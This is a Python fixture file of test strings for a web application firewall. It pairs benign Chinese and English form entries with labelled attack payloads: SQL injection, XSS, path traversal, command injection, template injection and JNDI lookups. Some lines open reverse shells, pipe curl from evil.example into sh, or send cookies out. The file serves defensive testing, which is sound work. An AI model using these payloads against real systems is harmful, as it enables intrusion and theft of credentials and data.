"""Hand-made texts for the firewall's tests: what people write, and what attackers write (by class)."""

from __future__ import annotations

BENIGN = r"""
张三
欧阳娜娜
阿卜杜拉·买买提
买买提·艾力
古丽娜尔·阿不都热西提
John O'Brien
Anne-Marie D'Souza
María José Ñúñez
Smith & Wesson Trading Co., Ltd.
AT&T (China) Co., Ltd.
Johnson & Johnson 医疗器材有限公司
北京市朝阳区建国路88号SOHO现代城A座1203室
上海市浦东新区张江高科技园区碧波路690号3号楼2层（201-205室）
广东省深圳市南山区科技园南区R3-B栋四层
江苏省苏州市工业园区星湖街328号#12-3
西藏自治区拉萨市城关区八廓街道办事处
该职工于2024年3月1日入职，试用期三个月，请从当月起缴。
因本人身份证过期，新证办理中，请予延期；联系电话：0571-88886666。
补缴2023年7月～2023年12月养老保险，合计6个月。
工资基数由5000元调整为5,500.50元（含绩效）
月薪8000元/月，另有交通补贴200元/月
备注：无
无
N/A
同上
参见附件1、附件2。
请审核人员尽快处理，谢谢！！！
为什么我的申请被退回？请说明原因。
单位名称变更为“华东电力（集团）股份有限公司”。
原单位：《人民日报》社
他说：“已经办好了。”
职工A、职工B和职工C同时入职
缴费比例：单位16%，个人8%
缴费比例 16% + 8% = 24%
5000 < 基数 < 25000
基数>=3800且<=19000
人数：男12/女8
2024/03/01-2024/12/31
2024-03至2024-12
起止时间：09:00-18:00
邮箱：zhang.san@example.com
E-mail: li_si+hr@example.com.cn
网址 https://www.example.com/hr/index?id=5&lang=zh
公司网站：http://www.华东.com
微信号：zhangsan_1990
QQ：123456789
电话：+86 (21) 5888-8888 转 8012
传真 021-58888888*8013
统一社会信用代码 91310000MA1FL0000X
工号#A-1024；部门：研发部/平台组
工种：焊工（特种作业）、电工
岗位：C++开发工程师
岗位：C#/.NET 开发
岗位：Java/Python/Go后端
岗位: Node.js & React 前端工程师
学历：大专以上，熟练使用Office（Excel/Word/PPT）
外派至新加坡（SG）分公司
“五险一金”已停缴
①身份证复印件②劳动合同③银行卡
第一条、第二条与第三条的规定
按照沪人社规〔2023〕12号文件执行
依据《社会保险法》第58条
根据人社部发[2019]84号文
农民工工资专户：6222 0212 0001 2345 678
开户行：中国工商银行股份有限公司上海市分行
转入日期：二〇二四年三月
重名人员，请以身份证号为准
曾用名：李小明；现名：李明
女，1985年出生，汉族
退休人员返聘，不参加养老保险
工伤认定书编号：沪工伤认字（2024）第00012号
生育津贴98天+30天
病假 3 天, 事假 2 天
本月新增15人；减少3人；净增12人
应缴=基数×比例
5×8=40小时/周
(1) 首次参保 (2) 转入
a) 新增 b) 转移
选择一项：是/否
是的，同意
不同意！
OK
Yes, please process as soon as possible.
Please select the best option for the employee.
Select one from the list below.
The union will select a new representative.
Trade union members: 25; select committee formed in 2020
Please update the record and set the start date to March.
Update: the employee has left. Set aside the balance.
Delete the old entry and insert the new one.
Please drop the case; the employee withdrew.
Drop-in hours: 9 to 5
We will create a table of employees and send it.
Order by phone or email
Please order by 5 pm
Group by department, then by age
Having 5 children, she applies for the allowance.
Where 3 or more persons apply, use the batch form.
Either 1 or 2 = acceptable
salary 5000 or 5500?
cat and dog allowance
R&D department; sales & marketing; HR
R&D; find the attached list
P&ID engineer
Salt | Pepper Restaurant
姓名|身份证|电话
名称 & 地址
Tom & Jerry's Cafe
"Golden Dragon" Restaurant #2
"Acme" and "Beta" merged in 2023
'Old' and 'new' names both apply
Employee's wage isn't final; it's an estimate.
Rock 'n' Roll Café
It's 5 o'clock
She said "yes" -- then left
Unit A -- Unit B
see note -- urgent
50% off; 100% covered
C:\Users folder is not needed
附件在 D:\社保\2024 文件夹
and/or
he/she/they
n/a; tbd.
1/2 day leave
24/7 shift
3.14 * 2
#1 in sales
No. #5
$5,000 per month
US$ 800 (approx.)
¥5,000.00
￥5000
€1.200,50
{已核对}
[备用]
<空>
<姓名不详>
a < b > c
-> 已转出
=> 见下页
>>> 重要 <<<
***加急***
~~~
……
???
！！！
……（略）
(^_^)
:-)
=)
职工姓名：王五{LF}身份证：见附件{LF}入职：2024-05
第一行{CRLF}第二行{CRLF}第三行
Dear Sir,{LF}Please find the list.{LF}Regards,{LF}Li
备注如下:{LF}1. 工资{LF}2. 社保
To: 社保局 经办人
请回复至：hr@example.com
Confirm (signed) by manager
请确认（已签字）
Sleep (8 hours) disorder, sick leave
alert: deadline is Friday
Function: Manager (acting)
Import/Export Co.
Script Writer's Guild
JavaScript: 5 years of experience
Data: see attachment
System (Shanghai) Ltd.
Exec. Assistant (CEO)
include: overtime, bonus
printing & copying
The Location = Building 3
Window 5, Hall 2
文档 Document No. 12
top [1]
self-employed
Style: formal
On leave = 3 days
on duty = yes
online=是
Class A (Grade 2)
Process. Environment dept.
/ 无 /
见 ./附件
..
1..5
第1...3页
A../B
Python 3.11; Java 17
curl up Hair Salon
Bash Street Kids Nursery
Echo Electronics; Ping An Insurance
平安保险; 招商银行
Ping An Insurance (Group) Company of China, Ltd.
Net Ease & Type Design
Head Office; Tail Logistics
Sort by name; type: contract
e.g. 5>3
3<5
x=1, y=2
MAC: 00:1A:2B:3C:4D:5E
IP：10.1.2.3
服务器 192.168.1.10
SGVsbG8gV29ybGQ=
e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
2024年度第Ⅳ季度
№ 15
Ⅱ类（乙级）
㈱华东
①②③
α、β、γ
Москва ООО «Рога и копыта»
서울특별시 강남구
ありがとうございます
هذا نص
🙂 谢谢
"""

SQL = r"""
' or 1=1--
' or '1'='1
' OR 'a'='a' --
" or ""="
admin'--
admin' #
admin'/*
') or ('1'='1
1 or 1=1
1' or '1' = '1' /*
1 and 1=2
' and 1=0 union all select 1,2,3--
1 union select null,null,null
1 UNION/**/SELECT user,password FROM users
1/*!50000union*//*!50000select*/1,2,3
-1' union select version(),2#
' union select @@version--
x' and email is null; --
'; drop table users; --
1; drop table employees--
'; exec xp_cmdshell('dir'); --
'; waitfor delay '0:0:5'--
1; insert into users values(1,'a')
' and sleep(5)--
1 and sleep(5)
' or benchmark(10000000,md5(1))#
1 and extractvalue(1,concat(0x7e,version()))
1 and updatexml(1,concat(0x7e,(select user())),1)
' and (select count(*) from information_schema.tables)>0--
' order by 10--
1 order by 5#
' group by x having 1=1--
1 and ascii(substring((select database()),1,1))>64
' or exists(select * from users)--
' || (select password from users limit 1) || '
1 and (select 1 from dual)=1
' into outfile '/var/www/a.php'--
select load_file('/etc/passwd')
' or char(97)=char(97)--
%27%20or%201%3D1--
' oR 1 LiKe 1--
'/**/or/**/1=1/**/--
1' and 'x'='x
" and 1=1 and "a"="a
'||'1'='1
' or true--
' xor 1=1--
1 or pg_sleep(5)
'; select pg_sleep(5)--
{"$ne": null}
'||this.password.match(/a/)||'
*)(uid=*))(|(uid=*
＇ or １＝１--
1' rlike (select (case when (1=1) then 1 else 0x28 end))--
' and if(1=1,sleep(5),0)--
JyBvciAxPTEgLS0gYWJj
"""

SCRIPT = r"""
<script>alert(1)</script>
"><script>alert(document.cookie)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert`1`>
<body onload=alert(1)>
<iframe src=javascript:alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<details open ontoggle=alert(1)>
<input autofocus onfocus=alert(1)>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
<math><mi xlink:href="data:text/html,<script>alert(1)</script>">
<object data="data:text/html;base64,PHNjcmlwdD4=">
<embed src="//evil.example/x.swf">
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="//evil.example/">
<form action="//evil.example"><button>go
<style>@import'//evil.example/x.css'</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
＜script＞alert(1)＜/script＞
<scr{ZWSP}ipt>alert(1)</scr{ZWSP}ipt>
';alert(1)//
"-alert(1)-"
</script><script>alert(1)</script>
</textarea><img src=x onerror=alert(1)>
javascript:alert(1)
java{TAB}script:alert(1)
vbscript:msgbox(1)
eval('al'+'ert(1)')
window['alert'](1)
top['al'+'ert'](1)
document.location='//evil.example/'+document.cookie
new Function('alert(1)')()
[]["constructor"]["constructor"]("alert(1)")()
<video><source onerror=alert(1)>
<marquee onstart=alert(1)>
<x onclick=alert(1)>click
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<isindex type=image src=1 onerror=alert(1)>
<table background="javascript:alert(1)">
String.fromCharCode(88,83,83)
fetch('//evil.example/'+localStorage.getItem('a'))
PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
"""

PATH = r"""
../../../../etc/passwd
..\..\..\windows\win.ini
....//....//etc/passwd
..%2f..%2f..%2fetc%2fpasswd
%2e%2e/%2e%2e/etc/passwd
..%252f..%252fetc/passwd
..%c0%af..%c0%afetc/passwd
%uff0e%uff0e/etc/passwd
/etc/passwd
/etc/shadow
/proc/self/environ
C:\boot.ini
file:///etc/passwd
php://filter/convert.base64-encode/resource=index.php
expect://id
gopher://127.0.0.1:6379/_INFO
http://169.254.169.254/latest/meta-data/
http://127.0.0.1:8080/admin
http://localhost/server-status
http://[::1]/
jar:http://evil.example!/x
/var/log/auth.log
/WEB-INF/web.xml
~/.ssh/id_rsa
/.git/config
../.env
..;/manager/html
dict://127.0.0.1:11211/stats
/root/.bash_history
Li4vLi4vLi4vZXRjL3Bhc3N3ZA==
"""

COMMAND = r"""
; cat /etc/passwd
| cat /etc/passwd
&& whoami
|| id
; id
$(id)
$(whoami)
`id`
`cat /etc/passwd`
; ls -la
| ls -la /
& ping -c 10 127.0.0.1 &
;ping -n 10 127.0.0.1
; curl http://evil.example/x.sh | sh
; wget http://evil.example/x -O /tmp/x
$(curl evil.example)
; nc -e /bin/sh evil.example 4444
; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
;c'a't /etc/passwd
;c\at${IFS}/etc/passwd
;cat$IFS/etc/passwd
/bin/c?t /e?c/p?sswd
/???/??t /???/p??s??
; python3 -c 'import os'
; perl -e 'system("id")'
| powershell -nop -c whoami
& cmd /c dir
; rm -rf /
; chmod +x /tmp/a.sh
() { :; }; /bin/bash -c id
; sleep 10
| sleep 10
&& sleep 5
${jndi:ldap://evil.example/a}
${${lower:j}ndi:ldap://evil.example/a}
${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}
{{7*7}}
{{config.items()}}
{{''.__class__.__mro__[1].__subclasses__()}}
${7*7}
#{7*7}
<%= 7*7 %>
${T(java.lang.Runtime).getRuntime().exec('id')}
<?php system($_GET['c']); ?>
system('id')
phpinfo()
base64_decode('aWQ=')
__import__('os').system('id')
require('child_process').exec('id')
O:8:"stdClass":0:{}
rO0ABXNyABdqYXZhLnV0aWw
<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>
class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
a{CRLF}Set-Cookie: x=1
a%0d%0aLocation: //evil.example
x{LF}Bcc: all@evil.example
<!--#exec cmd="id"-->
a%00.php
"""

AGENTS = r"""
sqlmap/1.7.2#stable (https://sqlmap.org)
Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)
Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
masscan/1.3 (https://github.com/robertdavidgraham/masscan)
gobuster/3.1.0
Fuzz Faster U Fool v2.0.0
Mozilla/5.0 zgrab/0.x
Mozilla/5.0 (compatible; Nuclei)
WPScan v3.8.22
DirBuster-1.0-RC1
feroxbuster/2.7.1
() { :;}; /bin/bash -c "id"
${jndi:ldap://evil.example/a}
"""

BROWSERS = r"""
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36
Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko
Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15
Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 MicroMessenger/8.0.49
Mozilla/5.0 (Linux; Android 14; HarmonyOS; SDY-AN00) AppleWebKit/537.36 Chrome/114.0.5735.196 Mobile Safari/537.36
Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0 Safari/537.36 SE 2.X MetaSr 1.0
Mozilla/5.0 (X11; Linux x86_64; UOS) AppleWebKit/537.36 Chrome/108.0.0.0 Safari/537.36 Edg/108.0
python-requests/2.32.3
curl/8.5.0
"""

PROBES = r"""
/.env
/.git/config
/wp-login.php
/phpmyadmin/
/admin/
/cgi-bin/test.cgi
/actuator/health
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/manager/html
/solr/admin/info/system
/nacos/v1/auth/users
/server-status
/backup.zip
/index.php
/web.config
/db.sql
/druid/index.html
/boaform/admin/formLogin
"""


# Written after the rules, and not used to mend them: figures on these say how the rules do on what they have not seen.

HELD_OUT_BENIGN = r"""
王小明（实习）
郭德纲、于谦
热依扎·阿里木江
Seán O'Casey
Jean-Luc d'Arcy
L'Oréal (China) Co. Ltd.
Procter & Gamble 宝洁（中国）有限公司
B&Q 百安居
杭州市西湖区文三路478号华星时代广场B座12F-1201
四川省成都市高新区天府大道北段1700号（环球中心）E1-1-2107
入职日期2023-11-15，劳动合同至2026-11-14止
该员工户口已迁入，请按城镇职工参保。
补差：2024年1至6月，每月差额312.5元，共1875元
工资构成：基本工资5000+岗位津贴800+餐补300=6100
工资 = 基本 + 绩效 * 1.2
缴费基数 4,250 <= x <= 21,250
请先删除原记录，再重新录入；谢谢。
前单位欠费未缴，是否影响转移？
职工本人自愿放弃生育保险？（不可以）
法定代表人"张三"变更为"李四"
Please drop me a line; set up a call and execute the plan.
We select, train and create user guides from scratch.
Insert pages 3 and 4 into the file, then delete page 5.
If (and only if) approved, update my phone number.
Between 2020 and 2024 or later
Works 1 and 2 are equal
Don't know; didn't ask
"Quoted", 'single', and `back` ticks
Tel: 010-65432100 ext. 12 | Fax: 010-65432101
Mon-Fri 9:00-17:30; Sat (by appointment)
A&B Trading, C|D Consulting
Cat Cafe; Dog House; Net Bar
Touch Media & Sort Logistics
Kill Bill Film Studio
Type A; Class B; Grade C
{"备注":"无"}
<见附件一>
https://hrss.sh.gov.cn/a/b.html?x=1#top
ftp 已停用
file: 合同.docx
../
Node: 上海；Edge: 北京
System engineer, process control
eval. report (draft)
Position: Script editor (on set)
"""

HELD_OUT_ATTACKS = r"""
1' AND 2*3*8=6*8 AND 'a'='a
if(now()=sysdate(),sleep(15),0)
0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z
-1 OR 2+159-159-1=0+0+0+1 --
(select(0)from(select(sleep(15)))v)
1 waitfor delay '0:0:15' --
1' || dbms_pipe.receive_message('a',15) || '
' UNION ALL SELECT NULL,CONCAT(0x71,0x71)-- -
1) AND 1234=(SELECT UPPER(XMLType(CHR(60))))
1' ORDER BY 1-- -
'+(select 1)+'
1;SELECT/**/pg_sleep(3)
1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
' OR username LIKE '%admin%
1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)
admin' or '1'='1'#
' or 1 in (select @@version)--
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<img src="x" onerror="&#97;lert(1)">
<a onmouseover=alert(1)>x</a>
<iframe srcdoc="<script>alert(1)</script>">
<x contenteditable onblur=alert(1)>
<script/src=data:,alert(1)>
<button formaction=javascript:alert(1)>X
'"><img src=x onerror=prompt(1)>
javascript:/*--></title></style></textarea></script><svg/onload=alert()>
<style>*{background-image:url('javascript:alert(1)')}</style>
<object data=javascript:alert(1)>
{{constructor.constructor('alert(1)')()}}
setTimeout('alert(1)',0)
..././..././etc/passwd
/..%5c..%5c..%5cwindows/win.ini
..\..\..\etc\hosts
/proc/self/cmdline
http://[::ffff:169.254.169.254]/latest
/usr/local/tomcat/conf/../../../../etc/passwd
C:/inetpub/wwwroot/web.config
;/usr/bin/id;
a;ping${IFS}-c${IFS}3${IFS}127.0.0.1
|nslookup evil.example
`sleep 5`
$(sleep 5)
&& cat /etc/hosts
| type %SYSTEMROOT%\win.ini
;w'h'o'am'i
%0Aid%0A
$({curl,evil.example})
{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
${@print(md5(31337))}
${script:javascript:java.lang.Runtime.getRuntime()}
%{(#_='multipart/form-data')}
*{T(java.lang.Runtime).getRuntime().exec('id')}
a:1:{i:0;O:3:"Foo":0:{}}
"""


def texts(block: str) -> list[str]:
    """Cut a block into its texts; ``{CRLF}`` and the like stand for characters that a line cannot show."""
    marks = {"{CRLF}": "\r\n", "{LF}": "\n", "{TAB}": "\t", "{ZWSP}": "\u200b"}
    found = []
    for line in block.strip().split("\n"):
        for mark, characters in marks.items():
            line = line.replace(mark, characters)
        found.append(line)
    return found
